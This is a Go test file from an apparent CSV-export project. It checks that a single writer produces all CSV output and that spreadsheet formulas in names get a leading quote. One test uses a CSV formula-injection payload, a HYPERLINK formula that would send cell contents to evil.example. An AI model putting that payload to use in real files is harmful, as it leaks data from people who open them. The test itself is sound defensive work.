package main

import (
	"context"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/voicemap/voicemap/demo"
	"github.com/voicemap/voicemap/service"
	"github.com/voicemap/voicemap/store"
)

// TestOneCSVWriter checks that interchange.CSVWriter is the only CSV
// writer of the project: no other non-test Go file calls csv.NewWriter, so
// no CSV leaves voicemap without its cells made safe for spreadsheets.
func TestOneCSVWriter(t *testing.T) {
	const writer = "interchange/csvwrite.go"
	err := filepath.WalkDir(".", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (strings.HasPrefix(d.Name(), ".") || d.Name() == "node_modules" || d.Name() == "testdata") && path != "." {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") || filepath.ToSlash(path) == writer {
			return nil
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if strings.Contains(string(data), "csv.NewWriter(") {
			t.Errorf("%s calls csv.NewWriter: write CSV through interchange.NewCSVWriter", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestCSVOutputsNeutraliseFormulas gives a person of the demo a name that
// is a spreadsheet formula and checks every CSV the command line writes
// (export -format csv, to stdout and to files, and report -format csv):
// the name appears with a leading quote, never bare.
func TestCSVOutputsNeutraliseFormulas(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	path := demoData(t)
	var id string
	withStore(t, path, func(st store.Store, _ *service.Service) {
		p := demo.Network().People[0]
		for _, q := range demo.Network().People {
			if q.PlaceID == demo.Riverside {
				p = q
				break
			}
		}
		id = p.ID
		p.Name = formula
		if _, err := st.UpsertPerson(context.Background(), p); err != nil {
			t.Fatal(err)
		}
	})
	out := filepath.Join(t.TempDir(), "net")
	outputs := map[string]string{
		"export to stdout": mustRunCLI(t, path, nil, "export", "-format", "csv").stdout,
		"report":           mustRunCLI(t, path, nil, "report", "-place", demo.Riverside, "-format", "csv").stdout,
	}
	mustRunCLI(t, path, nil, "export", "-format", "csv", "-out", out)
	for _, f := range []string{out + "_nodes.csv", out + "_edges.csv"} {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		outputs[filepath.Base(f)] = string(data)
	}
	for name, text := range outputs {
		found := false
		for table := range strings.SplitSeq(text, "\n\n") {
			rows, err := csv.NewReader(strings.NewReader(table)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if cell == formula {
						t.Errorf("%s: the formula is written bare", name)
					}
					if cell == "'"+formula {
						found = true
					}
				}
			}
		}
		if !found && name != "net_edges.csv" {
			t.Errorf("%s: the neutralised name of %s is missing", name, id)
		}
	}
}
